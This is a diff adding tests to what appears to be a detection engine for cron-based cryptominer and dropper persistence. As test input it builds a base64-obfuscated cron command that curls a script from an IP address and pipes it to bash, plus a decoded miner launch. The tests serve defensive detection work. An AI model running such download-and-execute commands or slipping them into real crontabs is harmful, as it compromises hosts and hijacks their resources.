@@ -176,6 +176,49 @@ test("an exec of the entry's target joins the entry once: one finding on the pro
   assert.ok(f.evidence.some((e) => e.kind === 'miner-process' && e.entity === 'process:web-01:4130'));
 });
 
+const b64 = (text: string) => Buffer.from(text).toString('base64');
+
+test('a cron line that decodes a download into a shell is one entry, one leg: no finding alone (it was medium)', () => {
+  const line = `echo ${b64('curl http://203.0.113.9/y.sh|sh')} | base64 -d | bash`;
+  assert.deepEqual(
+    run([], [entryOf(line)], undefined, realClassify).map((f) => `${f.entity} ${f.severity} ${f.legs}`),
+    [],
+  );
+  // decoding to a miner is still the strong mining signal a low finding rests on: low, the entry's one leg
+  const miner = run([], [entryOf(`echo ${b64(`${RENAMED} ${MINER_ARGS}`)} | base64 -d | sh`)], undefined, realClassify);
+  assert.deepEqual(
+    miner.map((f) => [f.entity, f.severity, f.legs]),
+    [['host:web-01', 'low', ['reach']]],
+  );
+  const dropper = miner[0].evidence.find((e) => e.kind === 'dropper');
+  assert.equal(dropper?.source, 'crontabs/www-data:4');
+  assert.deepEqual(miner[0].facts.persistence, ['crontabs/www-data:4']);
+});
+
+test("cron's exec of a decoded line adds the process leg, once: one finding on the process, none on the host", () => {
+  const line = `echo ${b64('curl http://203.0.113.9/y.sh|sh')} | base64 -d | bash`;
+  const exec = ev(0, 'exec', {
+    process: {
+      pid: 4201,
+      name: 'sh',
+      executable: '/bin/sh',
+      command_line: `/bin/sh -c ${line}`,
+      parent: { pid: 900, name: 'cron', executable: '/usr/sbin/cron' },
+    },
+  });
+  const findings = run([exec], [entryOf(line)], undefined, realClassify);
+  assert.equal(findings.length, 1, findings.map((f) => `${f.entity} ${f.severity}`).join('; '));
+  const [f] = findings;
+  assert.equal(f.entity, 'process:web-01:4201');
+  assert.equal(f.severity, 'medium');
+  assert.deepEqual(f.legs, ['process', 'reach']);
+  // the process leg is the exec's own decoded script; the entry's is not said again
+  const droppers = f.evidence.filter((e) => e.kind === 'dropper');
+  assert.ok(droppers.length > 0);
+  for (const e of droppers) assert.equal(e.entity, 'process:web-01:4201', e.explanation);
+  assert.equal(f.evidence.filter((e) => e.class === 'persistence').length, 1);
+});
+
 test('a relaunch under cron (new pid, same flagged executable) joins the first cluster', () => {
   const relaunch = ev(5, 'exec', {
     process: { pid: 5001, name: 'kdevtmpfsi', executable: '/tmp/kdevtmpfsi', parent: { pid: 900, name: 'cron' } },
